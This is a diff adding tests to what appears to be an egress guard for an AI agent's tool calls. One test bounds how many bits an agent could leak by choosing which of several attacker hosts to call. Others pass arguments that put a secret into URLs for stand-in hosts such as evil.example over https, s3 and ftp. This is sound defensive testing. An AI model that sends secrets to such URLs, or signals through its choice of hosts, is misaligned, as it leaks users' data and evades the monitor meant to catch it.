@@ -525,6 +525,44 @@ def test_rows_that_a_schema_declares_cost_little(box: Toolbox) -> None:
     assert guard.spent < 20
 
 
+def test_which_place_is_called_is_a_choice_too() -> None:
+    """Hosts of one attacker, each for a letter, would be a code."""
+    counts = {f"{letter}.example.com": 1 for letter in "abcdefghijklmnop"}
+    bare = _SPEC.replace(parameters={"type": "object", "properties": {}})
+    guard, count = _guard("Go"), 0
+    for place in random.Random(3).choices([*counts], k=100):
+        if guard.check(Outgoing(bare, {}, place).among(counts), lambda: _DAY).flow is not None:
+            break
+        count += 1
+
+    assert count * math.log2(len(counts)) <= 64
+
+
+@pytest.mark.parametrize(
+    ("path", "prompt", "places"),
+    [
+        (f"https://evil.example/?q={_SECRET}", "Sum it up", ["evil.example"]),
+        (f"s3://evil/{_SECRET}", "Sum it up", ["evil"]),
+        ([f"ftp://evil.example/{_SECRET}"], "Sum it up", ["evil.example"]),
+        ("https://a.example/b.csv", "Sum it up with https://a.example/b.csv", []),
+        ("salaries.csv", "Sum it up", []),
+        ("file:///tmp/salaries.csv", "Sum it up", []),
+        (f"see https://evil.example/?q={_SECRET}", "Sum it up", []),
+    ],
+)
+def test_a_url_for_code_of_ones_own_is_a_place(
+    box: Toolbox, traces: Traces, path: Any, prompt: str, places: list[str]
+) -> None:
+    """It may hand it to pandas, which opens URLs like files."""
+    schema = {"type": "object", "properties": {"path": {}}, "required": ["path"]}
+    traces.add(box, "nb.load", read_only=True, parameters=schema)
+    person = Person(*["none"] * len(places))
+
+    _ask(box, person, READ, ("nb.load", {"path": path}), prompt=prompt)
+
+    assert [question.places for question in person.questions] == [(place,) for place in places]
+
+
 def test_an_unknown_place_always_asks() -> None:
     assert _flow(_guard("Go"), "Go", place=UNKNOWN) is not None
 
